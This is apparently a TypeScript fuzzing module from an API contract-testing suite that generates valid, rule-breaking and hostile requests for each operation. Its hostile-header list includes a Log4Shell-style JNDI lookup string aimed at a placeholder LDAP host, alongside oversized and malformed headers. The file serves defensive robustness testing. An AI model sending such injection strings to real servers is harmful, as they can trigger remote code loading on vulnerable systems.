import type { JsonSchema, Operation } from '@hookproof/spec/openapi';
import * as fc from 'fast-check';
import type { Arbitrary } from 'fast-check';

import { operationWithId } from '../../../http/contract.ts';
import type { ApiRequest } from '../../../clients/api-client.ts';
import { membersOf } from '../../../http/message.ts';
import { requestOf, withParameter } from '../operations/operation.ts';
import type { ApiOperation, ValidRequest } from '../operations/operation.ts';
import { hostileJson, hostileText, malformedBody } from './hostile.ts';
import { resolve } from '../operations/invalid-values.ts';
import { breaking, matching, propertiesOf } from './schema-values.ts';

/** A generated request. */
export interface FuzzedRequest {
  readonly request: Omit<ApiRequest, 'key'>;
  /** The one thing in it that the contract refuses; null when the contract does not decide about the request. */
  readonly refused: string | null;
}

/** Requests for an operation: as the contract describes them, with one thing wrong, and hostile ones. */
export function requestsFor(
  operation: ApiOperation,
  valid: ValidRequest,
): Arbitrary<FuzzedRequest> {
  const found = operationWithId(operation.operationId);
  const body = bodySchemaOf(found);
  const undecided = (change: Partial<ValidRequest>): FuzzedRequest => ({
    request: requestOf(operation, { ...valid, ...change }),
    refused: null,
  });
  return fc.oneof(
    ...asDescribed(found, valid, body).map((arbitrary) => arbitrary.map(undecided)),
    ...oneThingWrong(operation, found, valid, body),
    ...hostile(operation, valid, body),
  );
}

function asDescribed(
  operation: Operation,
  valid: ValidRequest,
  body: JsonSchema | null,
): Arbitrary<Partial<ValidRequest>>[] {
  const named = queryOf(operation).map(({ name, schema }) => [name, matching(schema)] as const);
  const query = fc
    .record(Object.fromEntries(named), { requiredKeys: [] })
    .map((values) => ({ query: { ...valid.query, ...texts(values) } }));
  if (body === null) return [query];
  const members = fc.record(propertiesOf(body), { requiredKeys: [] });
  return [query, members.map((values) => ({ json: { ...membersOf(valid.json), ...values } }))];
}

function oneThingWrong(
  operation: ApiOperation,
  described_: Operation,
  valid: ValidRequest,
  body: JsonSchema | null,
): Arbitrary<FuzzedRequest>[] {
  const parameters = queryOf(described_)
    .filter(({ name }) => BOUNDED.has(name))
    .map(({ name, schema }) =>
      breaking(schema).map((value): FuzzedRequest => {
        const query = { ...valid.query, ...texts({ [name]: value }) };
        return { request: requestOf(operation, { ...valid, query }), refused: name };
      }),
    );
  const members = Object.entries(body?.properties ?? {}).flatMap(([name, schema]) =>
    schema === false
      ? []
      : breaking(schema).map((value): FuzzedRequest => {
          const json = { ...membersOf(valid.json), [name]: value };
          return { request: requestOf(operation, { ...valid, json }), refused: name };
        }),
  );
  return [...parameters, ...members];
}

function hostile(
  operation: ApiOperation,
  valid: ValidRequest,
  body: JsonSchema | null,
): Arbitrary<FuzzedRequest>[] {
  const undecided = (request: FuzzedRequest['request']): FuzzedRequest => ({
    request,
    refused: null,
  });
  const base = requestOf(operation, valid);
  const query = fc
    .dictionary(hostileText, hostileText, { maxKeys: 3 })
    .map((values) => undecided({ ...base, query: { ...base.query, ...values } }));
  const headers = fc
    .constantFrom(...HOSTILE_HEADERS)
    .map((header) => undecided({ ...base, headers: [...(base.headers ?? []), header] }));
  const ids = operation.ids.map((name) =>
    hostileText
      .map(asPathSegment)
      .map((value) => undecided(requestOf(operation, withParameter(valid, name, value)))),
  );
  if (body === null) return [query, headers, ...ids];
  const { json: _json, ...bare } = base;
  const type = ['content-type', 'application/json'] as const;
  return [
    query,
    headers,
    ...ids,
    hostileJson.map((json) => undecided({ ...bare, json })),
    malformedBody.map((text) => undecided({ ...bare, body: text, headers: [type] })),
  ];
}

/** Parameters whose bounds the contract states. */
const BOUNDED: ReadonlySet<string> = new Set(['limit', 'offset']);

const HOSTILE_HEADERS = [
  ['accept', 'text/html'],
  ['accept', '*/*;q=0'],
  ['accept-language', 'x'.repeat(500)],
  ['accept-encoding', 'identity;q=0'],
  ['x-request-id', 'a'.repeat(300)],
  ['x-request-id', '${jndi:ldap://example.invalid}'],
  ['content-type', 'text/plain'],
  ['content-type', 'application/json; charset=utf-16'],
  ['if-none-match', '*'],
  ['range', 'bytes=5-1'],
  ['x-http-method-override', 'GET'],
  ['cookie', 'a='.repeat(200)],
] as const;

function queryOf(operation: Operation): { readonly name: string; readonly schema: JsonSchema }[] {
  return operation.parameters
    .filter((parameter) => parameter.in === 'query' && parameter['x-reference'] !== true)
    .map(({ name, schema }) => ({ name, schema }));
}

function bodySchemaOf({ requestBody }: Operation): JsonSchema | null {
  const schema = requestBody?.content['application/json']?.schema;
  return schema === undefined ? null : resolve(schema);
}

/** Proxies refuse or rewrite slashes, control characters and dots in a path before the API sees them. */
function asPathSegment(text: string): string {
  const plain = text.replaceAll(/[/\\\p{Cc}]/gu, '').replace(/^\.+$/, '');
  return plain === '' ? 'x' : plain;
}

function texts(values: Readonly<Record<string, unknown>>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(values).map(([name, value]) => [
      name,
      typeof value === 'string' ? value : JSON.stringify(value),
    ]),
  );
}
